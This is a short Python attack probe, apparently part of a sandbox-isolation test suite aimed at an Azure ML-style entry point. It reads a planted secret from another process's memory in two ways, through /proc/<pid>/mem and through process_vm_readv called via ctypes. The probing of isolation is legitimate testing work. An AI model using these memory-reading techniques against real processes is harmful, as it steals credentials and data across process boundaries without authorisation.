"""Reads a secret from the memory of another process of the same user."""

import ctypes

from attack import BAIT, attack, call, every, told


class Piece(ctypes.Structure):
    """struct iovec."""

    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def by_file():
    with open(f"/proc/{BAIT['process_pid']}/mem", "rb", buffering=0) as memory:
        memory.seek(BAIT["process_address"])
        return told("the neighbour's memory", memory.read(BAIT["process_length"]))


def by_call():
    content = ctypes.create_string_buffer(BAIT["process_length"])
    ours = Piece(ctypes.addressof(content), BAIT["process_length"])
    theirs = Piece(BAIT["process_address"], BAIT["process_length"])
    call("process_vm_readv", BAIT["process_pid"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    return told("the neighbour's memory", content.raw)


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(lambda way: way(), [by_file, by_call])
